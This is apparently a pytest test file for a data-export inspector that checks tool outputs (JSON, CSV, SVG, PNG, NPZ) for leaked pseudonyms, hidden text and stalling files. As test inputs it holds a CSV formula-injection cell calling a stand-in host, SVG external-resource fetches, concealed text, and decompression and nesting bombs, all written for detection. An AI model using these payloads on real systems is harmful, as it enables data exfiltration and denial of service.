"""Attacks by what a tool leaves: wrapped names, hidden bytes, and files that hold up the node."""

import base64
import gzip
import io
import json
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import pytest

from tessera.domain.access.airlock import Finding, Output
from tessera.domain.access.airlock_findings import inspect
from tessera.domain.access.airlock_search import Known
from tessera.domain.access.tool import OutputKind

HER = "TES-ABCDEFGHIJKLMNOP"
KNOWN = Known(
    minimum=10,
    n_subjects=30,
    subjects=frozenset({HER}),
    uids=frozenset({"2.25.1007.4.5", *(f"2.25.{10**20 + n}" for n in range(2000))}),
    hashes=frozenset(),
    sizes=frozenset({30, 60}),
    image_shapes=frozenset({(64, 64)}),
)
KINDS = {
    "json": OutputKind.AGGREGATE,
    "csv": OutputKind.AGGREGATE,
    "svg": OutputKind.FIGURE,
    "png": OutputKind.FIGURE,
    "npz": OutputKind.MODEL,
}


def found(ending: str, content: bytes) -> dict[str, Finding]:
    output = Output(use_id="", name=f"out.{ending}", kind=KINDS[ending], content=content)
    inspection = inspect(output, KNOWN, frozenset(OutputKind))
    return {one.code: one for one in inspection.findings}


def svg(inside: str, before: str = "") -> bytes:
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()


def chunk(kind: bytes, content: bytes) -> bytes:
    crc = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", crc)


def png(*extra: bytes, rows: bytes = b"\0\0" * 1, head: bytes = b"", end: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", 1, len(rows) // 2, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (
            chunk(b"IHDR", header + head),
            *extra,
            chunk(b"IDAT", zlib.compress(rows)),
            chunk(b"IEND", end),
        )
    )


def npz(**arrays: object) -> bytes:
    out = io.BytesIO()
    np.savez(out, **arrays)  # type: ignore[arg-type]
    return out.getvalue()


def npy(header: str, content: bytes = b"") -> bytes:
    raw = header.encode()
    packed = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + content
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w") as archive,
        archive.open("w.npy", "w", force_zip64=True) as member,
    ):
        member.write(packed)
    return out.getvalue()


def test_what_is_plain_has_no_finding() -> None:
    assert found("json", json.dumps({"auc": 0.81, "n_men": 20}, indent=2).encode()) == {}
    assert found("svg", svg('<path d="M0 0L1 1"/><text x="1">Age, years</text>')) == {}
    assert set(found("png", png())) <= {"picture"}  # one pixel
    assert set(found("npz", npz(w=np.zeros((7, 3), np.float32)))) == {"parameters"}
    packed = io.BytesIO()
    np.savez_compressed(packed, w=np.zeros((7, 3), np.float32))
    assert set(found("npz", packed.getvalue())) == {"parameters"}


def escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


@pytest.mark.parametrize(
    ("ending", "content"),
    [
        ("json", f'{{"note": "{escaped(HER)}"}}'.encode()),
        ("json", f'{{"{escaped(HER)}": 1}}'.encode()),
        ("json", json.dumps({"codes": [ord(c) for c in HER]}).encode()),
        ("json", json.dumps({"note": HER[::-1]}).encode()),
        ("json", json.dumps({"note": "".join(f"%{ord(c):02X}" for c in HER)}).encode()),
        ("json", json.dumps({"note": base64.b85encode(HER.encode()).decode()}).encode()),
        (
            "json",
            json.dumps(
                {"note": base64.b64encode(zlib.compress(HER.encode())[2:-4]).decode()}
            ).encode(),
        ),
        ("csv", ("a\n" + "\n".join(str(ord(c)) for c in HER) + "\n").encode()),
        ("svg", svg(f"<text>{''.join(f'&#{ord(c)};' for c in HER)}</text>")),
        ("svg", svg("".join(f"<text>{c}</text>" for c in HER))),
        ("svg", svg(f'<path d="M{" ".join(str(ord(c)) for c in HER)}"/>')),
        ("svg", svg(f'<g id="{"".join(f"&#x{ord(c):x};" for c in HER)}"/>')),
        ("png", png(rows=b"".join(bytes((0, ord(c))) for c in HER))),
        ("npz", npz(**{f"{number:02}{c}": np.zeros(2) for number, c in enumerate(HER)})),
        ("npz", npz(w=np.frombuffer(HER.encode(), np.uint8) / 256)),
    ],
    ids="escape key codes reversed percent base85 deflate csv-codes xml-ref xml-pieces path attr "
    "pixels names scaled".split(),
)
def test_a_pseudonym_never_leaves_however_it_is_written(ending: str, content: bytes) -> None:
    assert found(ending, content).get("pseudonym", None) is not None


FREE = "the man of sixty three with the large tumour on the left side who came in spring. " * 20


@pytest.mark.parametrize(
    ("ending", "content", "code"),
    [
        ("json", json.dumps({FREE + ".a": 1}).encode(), "free-text"),
        ("json", json.dumps({FREE: {}}).encode(), "free-text"),
        ("json", json.dumps({FREE: []}).encode(), "free-text"),
        ("json", b'{"a":' + b" \t" * 500 + b"1}", "hidden"),
        ("json", b'{"a": 1.0000000000000000000000000000' + b"19121212" * 3 + b"}", "long-decimals"),
        ("json", b'{"a": 0.5' + b"0" * 300 + b"}", "long-decimals"),
        ("json", b'{"a": 1e-3141592653589}', "long-decimals"),
        ("csv", b'a,n\n"=HYPERLINK(""http://x/""&A1)",30\n', "active"),
        ("csv", b"a,n\n@SUM(1),30\n", "active"),
        ("svg", svg(f"<!-- {FREE} -->"), "free-text"),
        ("svg", svg(f"<text>{{{FREE}}}</text>"), "free-text"),
        ("svg", svg(f'<g data-x="{FREE}"/>'), "free-text"),
        ("svg", svg("<g/>", f"<?note {FREE}?>"), "active"),
        ("svg", svg("<g/>", "<?xml-stylesheet href='http://x/a.css'?>"), "active"),
        ("svg", svg("<g/>", '<!DOCTYPE svg SYSTEM "http://x/a.dtd">'), "active"),
        ("svg", svg("<style>g{fill:u\\72l(http://x/)}</style>"), "active"),
        ("svg", svg("<style>g{background:image-set('http://x/' 1x)}</style>"), "active"),
        ("svg", svg('<text opacity="0.0">her age</text>'), "hidden"),
        ("svg", svg('<text fill-opacity="0.001">her age</text>'), "hidden"),
        ("svg", svg('<text font-size="0.01px">her age</text>'), "hidden"),
        ("png", png(head=b"her age"), "format"),
        ("png", png(end=b"her age"), "format"),
        ("png", png(chunk(b"pHYs", b"her age" * 99)), "hidden"),
        ("png", png(*(chunk(b"gAMA", b"her ") for _ in range(99))), "hidden"),
        ("png", png(*(chunk(b"tEXt", b"Software\0her age") for _ in range(99))), "hidden"),
        ("png", png(rows=b"\x42\0" * 9), "format"),
        ("npz", npz(**{FREE[:90] + str(n): np.zeros(2) for n in range(3)}), "free-text"),
        ("npz", npz(w=np.empty((0, 19121212, 1212))), "hidden"),
    ],
)
def test_what_does_not_show_is_found(ending: str, content: bytes, code: str) -> None:
    assert code in found(ending, content)


def test_the_fields_of_an_archive_hold_nothing() -> None:
    """Dates, attributes and versions of members: some 30 bytes of each that nobody reads."""
    plain = npz(w=np.zeros(3))
    central = plain.index(b"PK\x01\x02")
    places = [6, 7, 10, 11, 12, 13, *(central + n for n in (4, 5, 12, 13, 14, 15, 34, 36, 38, 40))]
    for place in [*places, len(plain) - 18, len(plain) - 16, plain.index(b"\x93NUMPY") + 7]:
        content = bytearray(plain)
        content[place] ^= 0x55
        assert found("npz", bytes(content))["archive"].is_final, place


@pytest.mark.parametrize(
    ("ending", "make"),
    [
        ("json", lambda: b'{"a": 1' + b" " * 900_000 + b"}"),
        ("json", lambda: json.dumps({"k" * 400_000: [0] * 190_000}).encode()),
        ("json", lambda: b"[" * 500_000),
        ("json", lambda: json.dumps(["0" * 401] * 2400).encode()),
        ("json", lambda: b'["' + b"1" * 19_000_000 + b'"]'),
        (
            "json",
            lambda: json.dumps(
                {"a": base64.b64encode(gzip.compress(b"A" * 20_000_000)).decode()}
            ).encode(),
        ),
        (
            "json",
            lambda: json.dumps(
                [base64.b64encode(gzip.compress(b"2" * 19_000_000)).decode()] * 30
            ).encode(),
        ),
        ("json", lambda: b"[1e" + b"9" * 900_000 + b"]"),
        ("csv", lambda: b"k" * 100_000 + b"\n" + b"1\n" * 400_000),
        ("csv", lambda: b"a" + b"," * 900_000),
        ("svg", lambda: svg(f"<path d='M{'1' * 4_900_000}'/>")),
        ("svg", lambda: svg("<g>" * 600_000)),
        ("svg", lambda: svg("<g>" * 400_000 + "</g>" * 400_000)),
        ("png", lambda: png(*(chunk(b"IDAT", b"") for _ in range(300_000)))),
        (
            "npz",
            lambda: npy("{'descr': '<f4', 'fortran_order': False, 'shape': (" + "1" * 60 + "x"),
        ),
        ("npz", lambda: compressed(np.full(900_000_000, 65, np.uint8))),
        ("npz", lambda: b"\x78\x9c" * 2_000_000),
    ],
    ids="blanks key nested digits run bomb bombs exponent header columns decimals open deep chunks "
    "regex zeros magics".split(),
)
def test_no_file_holds_up_the_node(ending: str, make: Callable[[], bytes]) -> None:
    content = make()
    begun = time.process_time()
    found(ending, content)
    assert time.process_time() - begun < 20


def compressed(array: np.ndarray) -> bytes:  # type: ignore[type-arg]
    out = io.BytesIO()
    np.savez_compressed(out, w=array)
    return out.getvalue()
